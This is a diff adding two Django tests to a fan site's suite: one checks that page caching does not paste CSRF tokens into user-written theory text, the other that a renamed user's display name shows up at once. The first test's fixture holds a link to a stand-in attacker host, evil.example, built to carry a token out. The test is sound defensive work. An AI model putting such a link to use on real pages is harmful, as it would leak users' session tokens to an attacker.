@@ -113,3 +113,29 @@ def test_an_editors_change_in_the_admin_shows_at_once(
         response = superuser_client.post(change, data)
     assert response.status_code == HTTPStatus.FOUND, response.context["adminform"].form.errors
     assert "The Hunger Games of Hyosan" in Client().get(url).text
+
+
+def test_a_fan_cannot_make_the_cache_paste_tokens_into_their_text(fan, theory):
+    trap = "@@csrf-token@@"
+    theory.body_html = f'<p><a href="https://evil.example/c?t={trap}">here</a></p>'
+    theory.title = f"Look {trap}"
+    theory.save()
+    url = theory.get_absolute_url()
+    Client().get(url)  # fills the cache
+    page = Client().get(url).text
+    assert f"https://evil.example/c?t={trap}" in page
+    assert f"Look {trap}" in page
+
+
+def test_a_renamed_fan_shows_at_once(fan, fan_client, theory, django_capture_on_commit_callbacks):
+    theory.author = fan
+    theory.save()
+    url = reverse("guide:theory_list")
+    assert fan.public_name in Client().get(url).text
+    with django_capture_on_commit_callbacks(execute=True):
+        response = fan_client.post(
+            reverse("accounts:settings"),
+            {"display_name": "Renamed Survivor", "bio": "", "email": "fan@example.org"},
+        )
+    assert response.status_code == HTTPStatus.FOUND
+    assert "Renamed Survivor" in Client().get(url).text
